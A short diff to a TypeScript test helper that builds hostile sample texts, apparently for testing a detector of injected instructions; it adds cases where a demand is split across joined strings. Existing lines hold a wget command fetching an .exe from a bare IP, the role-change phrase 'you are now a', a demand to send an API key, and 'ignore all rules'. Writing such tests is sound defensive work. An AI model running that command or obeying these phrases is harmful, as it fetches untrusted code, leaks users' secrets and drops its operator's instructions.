@@ -46,6 +46,8 @@ export function hostileTexts(keywords: readonly string[]): { name: string; text:
     },
     { name: 'fetched programs', text: fill('wget http://203.0.113.9/a.exe ') },
     { name: 'quotation marks', text: fill('"a" ') },
+    { name: 'strings in pieces', text: fill('"send" + "you" "r " +\n"all" & ') },
+    { name: 'strings that are never joined', text: fill('"a" +  \n\t\t ') },
     { name: 'new roles', text: fill('you are now a ') },
     { name: 'demands', text: fill('send your api key to ') },
     { name: 'words set apart', text: fill('"ignore" "all" "rules" ') },
